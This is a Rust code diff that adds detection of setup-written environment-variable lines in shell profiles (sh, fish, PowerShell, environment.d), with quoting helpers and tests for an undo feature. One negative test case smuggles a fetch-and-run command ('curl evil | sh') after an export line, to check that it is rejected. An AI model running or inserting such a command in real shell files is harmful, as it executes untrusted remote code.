@@ -151,6 +151,143 @@ pub fn body(syntax: Syntax, values: &Values) -> Result<String> {
     Ok(env_format::render(format, &plan, &python_dir)?)
 }
 
+/// The syntax of a file setup writes a block into, from its name (for `--undo`, which finds the
+/// files in the record, not from the shells on PATH).
+pub fn syntax_of(path: &Path) -> Syntax {
+    match path.extension().and_then(|e| e.to_str()) {
+        Some("fish") => Syntax::Fish,
+        Some("ps1") => Syntax::PowerShell,
+        Some("conf") => Syntax::EnvironmentD,
+        _ => Syntax::Sh,
+    }
+}
+
+/// Whether `line` is one `body` writes for `syntax`: a variable of `names` (or PYTHONPATH) set
+/// to a value of setup's (a stable bundle, our python directory, `always`), byte for byte as
+/// rendered. What tells our block from lines the user put or changed between our markers.
+pub fn is_setup_line(syntax: Syntax, names: &[String], line: &str) -> bool {
+    let pythonpath = vars::PYTHONPATH.to_owned();
+    names.iter().chain([&pythonpath]).any(|name| {
+        value_in(syntax, name, line).is_some_and(|value| {
+            setup_writes(name, &value)
+                && body(syntax, &one_value(name, value))
+                    .is_ok_and(|b| b.strip_suffix('\n') == Some(line))
+        })
+    })
+}
+
+/// The names a block may set: every CA variable (an earlier setup may have had other
+/// `leave_alone`), `extra_variables`, and the `--python` ones.
+pub fn block_names(extra: &[String]) -> Vec<String> {
+    let mut names: Vec<String> = vars::CA_VARIABLES
+        .iter()
+        .map(|(n, _)| n.to_string())
+        .chain(extra.iter().cloned())
+        .collect();
+    names.extend(
+        [
+            vars::TRUSTRUN_BUNDLE,
+            vars::TRUSTRUN_PYTHON_DIR,
+            vars::TRUSTRUN_TRUSTSTORE,
+        ]
+        .map(str::to_owned),
+    );
+    names
+}
+
+fn one_value(name: &str, value: PathBuf) -> Values {
+    if name == vars::PYTHONPATH {
+        Values {
+            vars: Vec::new(),
+            python_dir: Some(value),
+        }
+    } else {
+        Values {
+            vars: vec![(name.to_owned(), value)],
+            python_dir: None,
+        }
+    }
+}
+
+/// The values setup writes: the stable bundle, our python directory, `always`.
+fn setup_writes(name: &str, value: &Path) -> bool {
+    let file_name = value
+        .file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or_default();
+    if name == vars::PYTHONPATH || name == vars::TRUSTRUN_PYTHON_DIR {
+        file_name.starts_with("python-")
+    } else if name == vars::TRUSTRUN_TRUSTSTORE {
+        value == Path::new("always")
+    } else {
+        file_name == crate::stable_bundle::FILE_NAME
+    }
+}
+
+/// The value `line` sets `name` to, if it has the shape of setup's line for `name`: the line
+/// rendered with a placeholder, cut around the placeholder's quoted form, gives the text around
+/// the value (which PYTHONPATH's line holds twice). Checked by rendering it again.
+fn value_in(syntax: Syntax, name: &str, line: &str) -> Option<PathBuf> {
+    const PLACEHOLDER: &str = "trustrun-placeholder";
+    let template = body(syntax, &one_value(name, PathBuf::from(PLACEHOLDER))).ok()?;
+    let template = template.strip_suffix('\n')?;
+    let quoted = quote(syntax, PLACEHOLDER);
+    let parts: Vec<&str> = template.split(quoted.as_str()).collect();
+    let inner = line
+        .strip_prefix(*parts.first()?)?
+        .strip_suffix(*parts.last()?)?;
+    let value = match parts.as_slice() {
+        [_, _] => inner,
+        [_, middle, _] => {
+            let twice = inner.len().checked_sub(middle.len())?;
+            inner.get(..twice / 2)?
+        }
+        _ => return None,
+    };
+    unquote(syntax, value).map(PathBuf::from)
+}
+
+fn quote(syntax: Syntax, value: &str) -> String {
+    match syntax {
+        Syntax::Sh => crate::shell::sh_quote(value),
+        Syntax::Fish => crate::shell::fish_quote(value),
+        Syntax::PowerShell => crate::shell::powershell_quote(value),
+        Syntax::EnvironmentD => value.to_owned(),
+    }
+}
+
+/// The inverse of `quote` for the strings it makes (anything else comes out wrong, and fails
+/// the check by rendering).
+fn unquote(syntax: Syntax, quoted: &str) -> Option<String> {
+    if syntax == Syntax::EnvironmentD {
+        return Some(quoted.to_owned());
+    }
+    let inner = quoted.strip_prefix('\'')?.strip_suffix('\'')?;
+    Some(match syntax {
+        Syntax::Sh => inner.replace("'\\''", "'"),
+        Syntax::Fish => {
+            let mut out = String::new();
+            let mut chars = inner.chars();
+            while let Some(c) = chars.next() {
+                out.push(if c == '\\' { chars.next()? } else { c });
+            }
+            out
+        }
+        _ => {
+            // PowerShell doubles each quote character.
+            let mut out = String::new();
+            let mut chars = inner.chars().peekable();
+            while let Some(c) = chars.next() {
+                if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
+                    chars.next_if_eq(&c)?;
+                }
+                out.push(c);
+            }
+            out
+        }
+    })
+}
+
 /// `environment.d` lines. Its parser expands `$` and reads quotes and backslashes its own way,
 /// so a value holding any of them is refused, naming the variable.
 fn environment_d(values: &Values) -> Result<String> {
@@ -220,6 +357,68 @@ mod tests {
             python_dir: None,
         };
         assert!(launch_agent(&amp).unwrap().contains("'/a&amp;b&lt;c&gt;'"));
+    }
+
+    #[test]
+    fn every_line_setup_writes_is_recognised_and_no_other() {
+        let names = block_names(&[]);
+        let full = Values {
+            vars: vec![
+                (
+                    "SSL_CERT_FILE".to_owned(),
+                    PathBuf::from("/home/zoë o'brien/.cache/trustrun/current.pem"),
+                ),
+                ("TRUSTRUN_TRUSTSTORE".to_owned(), PathBuf::from("always")),
+            ],
+            python_dir: Some(PathBuf::from(
+                "/home/zoë o'brien/.cache/trustrun/python-ab12",
+            )),
+        };
+        let plain = Values {
+            vars: vec![("SSL_CERT_FILE".to_owned(), PathBuf::from("/h/current.pem"))],
+            python_dir: Some(PathBuf::from("/h/python-1")),
+        };
+        for (syntax, values) in [
+            (Syntax::Sh, &full),
+            (Syntax::Fish, &full),
+            (Syntax::PowerShell, &full),
+            (Syntax::EnvironmentD, &plain),
+        ] {
+            let text = body(syntax, values).unwrap();
+            assert_eq!(text.lines().count(), values.vars.len() + 1, "{text}");
+            for line in text.lines() {
+                assert!(is_setup_line(syntax, &names, line), "{syntax:?}: {line}");
+            }
+        }
+        for line in [
+            "",
+            "alias ll='ls -l'",
+            // A variable setup does not write, a value of the user's, one not quoted as setup does.
+            "export FOO='/h/current.pem'",
+            "export SSL_CERT_FILE='/etc/ssl/corp.pem'",
+            "export SSL_CERT_FILE=/h/current.pem",
+            "export SSL_CERT_FILE='/h/current.pem'; curl evil | sh",
+            "export TRUSTRUN_TRUSTSTORE='never'",
+        ] {
+            assert!(!is_setup_line(Syntax::Sh, &names, line), "{line}");
+        }
+        assert!(!is_setup_line(
+            Syntax::Fish,
+            &names,
+            "set -gx SSL_CERT_FILE '/h/o'\\'current.pem'"
+        ));
+    }
+
+    #[test]
+    fn the_syntax_of_each_target_follows_from_its_name() {
+        let home = Path::new("/h");
+        for target in unix_targets(home, &home.join(".config")) {
+            assert_eq!(syntax_of(&target.path), target.syntax, "{target:?}");
+        }
+        assert_eq!(
+            syntax_of(Path::new("/h/.config/powershell/profile.ps1")),
+            Syntax::PowerShell
+        );
     }
 
     #[test]
